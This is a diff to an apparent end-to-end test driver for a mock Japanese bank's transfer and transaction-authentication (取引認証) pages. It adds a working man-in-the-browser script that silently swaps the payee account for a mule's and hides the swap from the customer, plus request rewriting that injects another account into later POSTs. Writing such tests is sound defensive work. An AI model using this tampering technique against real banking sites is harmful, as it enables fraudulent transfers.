@@ -16,6 +16,22 @@
 //       ログイン › 振込 › form + code › 振込実行
 //   {"cmd":"exchange","old_otp":C,"new_serial":S,"new_otp":C2,"shot":NAME?}
 //       login screen › 交換 › 利用者認証 › 旧ワンタイムパスワード › 新 › 登録
+//   {"cmd":"txn_transfer","account":A,"amount":N,"tamper_to":B?,"inject_to":B?,"shot":NAME?}
+//       (--txn-auth required) ログイン › 振込 › form (no code) › 確認 › 取引認証;
+//       answers when the 取引認証 page is shown (the page stays open for
+//       txn_wait). `tamper_to`: a script injected into the page, as
+//       man-in-the-browser malware, changes the typed account number A to B
+//       when the form is submitted and shows A again wherever the next pages
+//       show B (the customer sees A everywhere in the browser). `inject_to`:
+//       a route rewrites every POST after 入力 (確認, 確認状況を更新) to carry
+//       the form fields again with account B (a bank that read fields after
+//       入力 would execute B). Shots NAME-confirm, NAME-auth.
+//   {"cmd":"txn_wait","timeout_ms":T,"shot":NAME?}
+//       waits at most T ms on that 取引認証 page for the page to move on by
+//       itself (its poller): {"ok":true,"state":"done",...receipt} or
+//       {"ok":true,"state":"rejected"|"expired",...} (then the history rows,
+//       logout, the page is closed); or {"ok":true,"state":"pending"} if it
+//       did not move (the page stays open).
 //   {"cmd":"quit"}
 // Answers (stdout): {"ok":true, ...what the result page shows} or
 // {"ok":false,"at":PAGE,"error":TEXT} where TEXT is the page's error box.
@@ -207,7 +223,159 @@ async function exchange(r) {
   };
 }
 
-const handlers = { start, transfer, exchange };
+// ------------------------------------------------------------ 取引認証
+// The page of the transfer awaiting 取引認証 (txn_transfer → txn_wait).
+let txnPage = null;
+
+/** What man-in-the-browser malware does to the 振込 pages (runs in the
+ * page before its own scripts, on every navigation of that tab): at submit
+ * time the typed payee account is swapped for the mule's, and the typed one
+ * is put back wherever a later page shows the mule's. */
+function mitbScript({ to }) {
+  const KEY = 'stk-mitb-typed';
+  const hide = () => {
+    const typed = sessionStorage.getItem(KEY);
+    const cell = document.getElementById('txn-account_number');
+    if (typed && cell && cell.textContent.trim() === to) cell.textContent = typed;
+  };
+  document.addEventListener('submit', (e) => {
+    const form = e.target;
+    const account = form && form.querySelector && form.querySelector('#f-account_number');
+    if (account && account.value && account.value !== to) {
+      sessionStorage.setItem(KEY, account.value);
+      account.value = to;
+    }
+  }, true);
+  document.addEventListener('DOMContentLoaded', hide);
+  new MutationObserver(hide).observe(document, { childList: true, subtree: true });
+}
+
+/** The transfer form's fields (the page's names) with `account`. */
+function transferForm(r, account) {
+  return {
+    bank: 'かけしん信用金庫', branch: '本店営業部', account_type: 'futsu', account_number: account,
+    payee: r.payee || 'ヤマダ タロウ', amount: String(r.amount),
+  };
+}
+
+/** ログイン › 振込 (no code) › 確認 › 取引認証, in a tab of its own. */
+async function txnTransfer(r) {
+  if (!/^\d{7}$/.test(String(r.account)) || (r.tamper_to && !/^\d{7}$/.test(String(r.tamper_to)))) {
+    return { ok: false, at: 'driver', error: 'account numbers are 7 digits' };
+  }
+  if (txnPage) await txnPage.close().catch(() => {});
+  const p = txnPage = await context.newPage();
+  if (r.tamper_to) await p.addInitScript(mitbScript, { to: String(r.tamper_to) });
+  let injected = 0;
+  if (r.inject_to) {
+    await p.route(/\/account\/(transfer\/confirm|txn\/check)$/, async (route) => {
+      const req = route.request();
+      if (req.method() !== 'POST') return route.continue();
+      const body = new URLSearchParams(req.postData() || '');
+      for (const [k, v] of Object.entries(transferForm(r, String(r.inject_to)))) body.set(k, v);
+      injected += 1;
+      return route.continue({ postData: body.toString() });
+    });
+  }
+  const pshot = async (name) => {
+    if (name) await p.screenshot({ path: path.join(shots, `e2e-${name}.png`), fullPage: true });
+  };
+  await p.goto(`${base}/login`);
+  await p.fill('#f-contract_id', customer.contract_id);
+  await p.fill('#f-password', customer.password);
+  await p.locator('#login-submit').click();
+  await p.waitForURL(/\/account$|\/login(\/otp)?$/);
+  if (!/\/account$/.test(p.url())) return { ok: false, at: 'login', url: new URL(p.url()).pathname, error: null };
+  await p.locator('#nav-transfer').click();
+  await p.waitForURL(/\/account\/transfer$/);
+  if (await p.locator('#f-otp').count()) {
+    return { ok: false, at: 'transfer', error: 'the 振込 form asks for a code (not 取引認証)' };
+  }
+  await p.fill('#f-bank', 'かけしん信用金庫');
+  await p.fill('#f-branch', '本店営業部');
+  await p.fill('#f-account_number', String(r.account));
+  await p.fill('#f-payee', r.payee || 'ヤマダ タロウ');
+  await p.fill('#f-amount', String(r.amount));
+  const typed = await p.inputValue('#f-account_number');
+  await p.locator('#transfer-submit').click();
+  await p.waitForLoadState();
+  if (!/\/account\/transfer\/confirm$/.test(p.url())) {
+    return { ok: false, at: 'transfer', url: new URL(p.url()).pathname, error: await p.locator('#page-error').innerText().catch(() => null) };
+  }
+  const confirmAccount = (await p.locator('#txn-account_number').innerText()).trim();
+  await pshot(r.shot && `${r.shot}-confirm`);
+  await p.locator('#confirm-submit').click();
+  await p.waitForLoadState();
+  if (!/\/account\/txn$/.test(p.url())) {
+    return { ok: false, at: 'confirm', url: new URL(p.url()).pathname, error: await p.locator('#page-error').innerText().catch(() => null) };
+  }
+  await p.locator('#txn-status').waitFor();
+  await pshot(r.shot && `${r.shot}-auth`);
+  return {
+    ok: true,
+    at: 'txn',
+    typed,
+    confirm_account: confirmAccount,
+    txn_account: (await p.locator('#txn-account_number').innerText()).trim(),
+    amount: (await p.locator('#txn-amount').innerText()).trim(),
+    crumb: (await p.locator('#crumbs li.current').innerText()).trim(),
+    instruction: (await p.locator('#txn-instruction').innerText()).trim(),
+    injected,
+  };
+}
+
+/** Waits on the 取引認証 page for its result (see the header). */
+async function txnWait(r) {
+  const p = txnPage;
+  if (!p) return { ok: false, at: 'driver', error: 'no 取引認証 page (txn_transfer first)' };
+  const timeout = Math.max(0, Number(r.timeout_ms) || 0);
+  const moved = await Promise.race([
+    p.waitForURL(/\/account\/done$/, { timeout }).then(() => 'done'),
+    p.locator('#txn-result').waitFor({ timeout }).then(() => 'result'),
+  ]).catch(() => null);
+  if (!moved) {
+    if (!/\/account\/txn$/.test(p.url()) || !(await p.locator('#txn-status').count())) {
+      return { ok: false, at: 'txn', url: new URL(p.url()).pathname, error: 'left the 取引認証 page without a result' };
+    }
+    return { ok: true, state: 'pending', url: new URL(p.url()).pathname };
+  }
+  await p.waitForLoadState();
+  const pshot = async (name) => {
+    if (name) await p.screenshot({ path: path.join(shots, `e2e-${name}.png`), fullPage: true });
+  };
+  let answer;
+  if (/\/account\/done$/.test(p.url())) {
+    await pshot(r.shot);
+    answer = {
+      ok: true,
+      state: 'done',
+      message: await p.locator('#result-message').innerText(),
+      receipt: await p.locator('#receipt-number').innerText(),
+      receipt_time: await p.locator('#receipt-time').innerText(),
+      transaction: await p.locator('#transaction').innerText(),
+      amount: await p.locator('#amount').innerText(),
+    };
+  } else {
+    await pshot(r.shot);
+    const result = p.locator('#txn-result');
+    answer = {
+      ok: true,
+      state: await result.getAttribute('data-result'),
+      message: await result.innerText(),
+      txn_account: (await p.locator('#txn-account_number').innerText()).trim(),
+    };
+  }
+  await p.locator('#nav-history').click();
+  await p.waitForURL(/\/account\/history$/);
+  answer.history = await p.locator('#history tr').allInnerTexts();
+  await p.locator('#logout').click();
+  await p.waitForURL(/\/login$/);
+  await p.close();
+  txnPage = null;
+  return answer;
+}
+
+const handlers = { start, transfer, exchange, txn_transfer: txnTransfer, txn_wait: txnWait };
 const lines = createInterface({ input: process.stdin });
 const reply = (o) => process.stdout.write(`${JSON.stringify(o)}\n`);
 try {
